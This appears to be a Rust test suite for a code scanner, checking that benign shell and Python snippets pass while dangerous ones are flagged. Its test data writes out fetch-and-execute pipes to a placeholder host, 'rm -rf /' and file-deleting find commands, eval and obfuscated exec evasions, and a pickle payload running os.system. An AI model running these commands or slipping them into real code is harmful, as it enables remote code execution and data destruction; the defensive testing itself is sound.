//! Families of honest lines that look like attacks, and the attacks next to them.

use hotcell_guard::{Artifact, Limits, Pack, Verdict, scan};
use std::time::Duration;

/// Verdicts on generated texts that differ from the wanted one, each as a line.
fn wrong(
    name: &str,
    texts: &[String],
    wanted: fn(Verdict) -> bool,
) -> Result<Vec<String>, hotcell_guard::PackError> {
    let pack = Pack::builtin()?;
    let limits = Limits { time: Duration::from_secs(120), ..Limits::default() };
    let mut out = Vec::new();
    for text in texts {
        let report = scan(&pack, &limits, &Artifact::new(name, text.as_str()));
        if !wanted(report.verdict) {
            let rules: Vec<_> = report.findings.iter().map(|f| f.rule.as_str()).collect();
            out.push(format!("{:?} {rules:?}: {text}", report.verdict));
        }
    }
    Ok(out)
}

const FETCHES: [&str; 3] =
    ["curl -s https://example.invalid/a", "wget -qO- https://example.invalid/a", "echo eyJ9 | base64 -d"];

/// Every fetch into every reader, alone and in a substitution.
fn fed(readers: &[&str]) -> Vec<String> {
    let lines =
        FETCHES.iter().flat_map(|fetch| readers.iter().map(move |reader| format!("{fetch} | {reader}")));
    lines.flat_map(|line| [format!("{line}\n"), format!("x=$({line})\necho \"$x\"\n")]).collect()
}

#[test]
fn input_of_program_given_as_argument_is_data() -> Result<(), Box<dyn std::error::Error>> {
    let texts = fed(&[
        "python3 -m json.tool",
        "python3 -m json.tool --no-ensure-ascii",
        "python3 -c \"import sys, json; print(json.load(sys.stdin)['tag'])\"",
        "python3 -Ic 'import json,sys;o=json.load(sys.stdin);print(o[0][\"a\"])'",
        "python -c 'import sys; sys.stdout.write(sys.stdin.read().strip())'",
        "python3 -c 'import re, sys; print(re.compile(\"a+\").findall(sys.stdin.read()))'",
        "node -pe \"JSON.parse(require('fs').readFileSync(0)).version\"",
        "node -e \"let s='';process.stdin.on('data',d=>s+=d).on('end',()=>console.log(JSON.parse(s).v))\"",
        "perl -ne 'print if /href/'",
        "perl -pe 's/foo/bar/g'",
        "ruby -ne 'puts $_.upcase'",
    ]);
    let wrong = wrong("a.sh", &texts, |verdict| verdict == Verdict::Allow)?;
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    Ok(())
}

#[test]
fn input_of_program_that_executes_or_stores_it_stays_flagged() -> Result<(), Box<dyn std::error::Error>> {
    let readers = [
        "python3",
        "python3 -",
        "python3 -i -c 'x = 1'",
        "PYTHONINSPECT=1 python3 -c 'x = 1'",
        "env PYTHONINSPECT=1 python3 -c 'x = 1'",
        "python3 -m code",
        "python3 -m base65",
        "python3 -c 'import sys; exec(sys.stdin.read())'",
        "python3 -c 'import sys; [print(e) for e in map(eval, sys.stdin)]'",
        "python3 -c 'import sys; f = getattr(__builtins__, \"ev\" + \"al\"); f(sys.stdin.read())'",
        "python3 -c 'import sys; open(\"x\", \"w\").write(sys.stdin.read())'",
        "python3 -c 'import pathlib, sys; pathlib.Path(\"x\").write_text(sys.stdin.read())'",
        "python3 -c 'import sys, pickle; pickle.load(sys.stdin.buffer)'",
        "python3 -c 'import local; local.main()'",
        "python3 -c 'import sys, yaml; yaml.unsafe_load(sys.stdin)'",
        "python3 -c \"$PROGRAM\"",
        "node",
        "node -i -e 1",
        "node -e \"eval(require('fs').readFileSync(0, 'utf8'))\"",
        "node -e \"new Function(require('fs').readFileSync(0, 'utf8'))()\"",
        "node -e \"require('child_' + 'process').exec(require('fs').readFileSync(0) + '')\"",
        "node -e \"require('./local')(process.stdin)\"",
        "node -e 'require(\"vm\").runInThisContext(require(\"fs\").readFileSync(0))'",
        "perl",
        "perl -e 'print 1'",
        "perl -ne 'system($_)'",
        "perl -ne 'eval'",
        "perl -ne 's/(.*)/$1/ee'",
        "perl -ne 'print `$_`'",
        "perl -ne '&{\"sys\".\"tem\"}($_)'",
        "perl -i -ne 'print' x",
        "ruby -ne 'Kernel.send(:eval, $_)'",
        "ruby -rlocal -ne 'puts 1'",
        "sh",
        "sh -s",
        // The output of a filter is executed.
        "python3 -c 'import sys; print(sys.stdin.read())' | sh",
        "perl -pe 's/a/b/' | bash",
        "node -pe \"JSON.parse(require('fs').readFileSync(0)).command\" | sh",
        "python3 -m json.tool > x.sh; sh x.sh",
    ];
    let wrong = wrong("a.sh", &fed(&readers), |verdict| verdict > Verdict::Allow)?;
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    Ok(())
}

#[test]
fn deletion_of_litter_is_allowed_and_of_other_files_refused() -> Result<(), Box<dyn std::error::Error>> {
    let mut litter = Vec::new();
    for root in ["/", "/usr", "~", "/home"] {
        for name in ["core", "*.pyc", "__pycache__", "*~", ".DS_Store"] {
            for action in ["-exec rm {} \\;", "-exec rm -f {} +", "-delete", "-exec rm -rf {} \\;"] {
                litter.push(format!("find {root} -name '{name}' {action}\n"));
                litter.push(format!("find {root} -xdev -type f -name '{name}' -mtime +7 {action}\n"));
            }
        }
    }
    let left = wrong("a.sh", &litter, |verdict| verdict == Verdict::Allow)?;
    assert!(left.is_empty(), "{}", left.join("\n"));
    let other: Vec<String> = [
        "find / -delete -name core",
        "find / -name core -o -type f -delete",
        "find / ! -name core -delete",
        "find / -not -name core -delete",
        "find / -name '*' -delete",
        "find / -name '*.conf' -delete",
        "find / -name passwd -exec rm {} \\;",
        "find / -name core -exec rm -rf {} /home \\;",
        "find / -name core -exec rm -rf / \\;",
        "find / -name \"$NAME\" -delete",
        "find / -name core -exec rm {} \\; -o -delete",
        "find / -name core -exec true \\; , -delete",
        "find ~ -type f -exec rm {} +",
    ]
    .map(|line| format!("{line}\n"))
    .to_vec();
    let passed = wrong("a.sh", &other, |verdict| verdict == Verdict::Quarantine)?;
    assert!(passed.is_empty(), "{}", passed.join("\n"));
    Ok(())
}

#[test]
fn own_pickles_are_allowed_and_others_flagged() -> Result<(), Box<dyn std::error::Error>> {
    let mut own = Vec::new();
    for module in ["pickle", "marshal", "cloudpickle", "dill"] {
        for (dump, load) in [
            ("M.loads(M.dumps(x))", ""),
            ("s = M.dumps(x)", "M.loads(s)"),
            ("s = M.dumps(x, 2)", "assert M.loads(s) == x"),
            ("s = M.dumps(x)\n    t = s", "return [M.loads(t) for _ in range(3)]"),
            ("b = io.BytesIO()\n    M.dump(x, b)\n    b.seek(0)", "return M.load(b)"),
        ] {
            // `dill.load` is said to be unsafe whatever it reads.
            if module == "dill" && load.contains("M.load(") {
                continue;
            }
            let text = format!("import io\nimport M\ndef f(x):\n    {dump}\n    {load}\n");
            own.push(text.replace('M', module));
        }
    }
    let left = wrong("a.py", &own, |verdict| verdict == Verdict::Allow)?;
    assert!(left.is_empty(), "{}", left.join("\n"));
    let other: Vec<String> = [
        "import pickle\ndef f(s):\n    return pickle.loads(s)\n",
        "import pickle, requests\npickle.loads(requests.get('http://example.invalid').content)\n",
        "import pickle, requests\ns = pickle.dumps(1)\ns = requests.get('http://example.invalid').content\npickle.loads(s)\n",
        "import pickle\ndef f(x, s):\n    if x:\n        s = pickle.dumps(x)\n    return pickle.loads(s)\n",
        "import pickle, base64\npickle.loads(base64.b64decode('gASV'))\n",
        "import pickle, os\nclass A:\n    def __reduce__(self):\n        return os.system, ('id',)\npickle.loads(pickle.dumps(A()))\n",
        "import pickle\ndef dumps(x):\n    return x\npickle.loads(dumps(input()))\n",
    ]
    .map(str::to_owned)
    .to_vec();
    let passed = wrong("a.py", &other, |verdict| verdict > Verdict::Allow)?;
    assert!(passed.is_empty(), "{}", passed.join("\n"));
    Ok(())
}

#[test]
fn constant_shell_commands_are_allowed_and_assembled_ones_flagged() -> Result<(), Box<dyn std::error::Error>>
{
    let calls = [
        "os.system(C)",
        "os.popen(C).read()",
        "subprocess.run(C, shell=True)",
        "subprocess.check_output(C, shell=True, text=True)",
        "subprocess.getoutput(C)",
    ];
    let texts = |commands: &[&str]| -> Vec<String> {
        let each =
            |call: &str, command: &str| format!("import os, subprocess\n{}\n", call.replace('C', command));
        commands.iter().flat_map(|command| calls.map(|call| each(call, command))).collect()
    };
    let constant = [
        "'clear'",
        "'git rev-parse HEAD'",
        "'ls -la | wc -l'",
        "'git log --oneline | head -n 1 | cut -c1-7'",
        "'make -j4 && make test'",
        "'less --version'",
    ];
    let left = wrong("a.py", &texts(&constant), |verdict| verdict == Verdict::Allow)?;
    assert!(left.is_empty(), "{}", left.join("\n"));
    let assembled = [
        "input()",
        "'ping ' + input()",
        "'curl http://example.invalid/x | sh'",
        "'rm -rf /'",
        "'ls | sh'",
        "'ls | sort --compress-program=./x'",
        "'ls | sort -ro x'",
        "'ls | uniq - x'",
        "'ls || ./x'",
        "'./x --version'",
        "'ls | wc -l && ./x'",
    ];
    let passed = wrong("a.py", &texts(&assembled), |verdict| verdict > Verdict::Allow)?;
    assert!(passed.is_empty(), "{}", passed.join("\n"));
    Ok(())
}
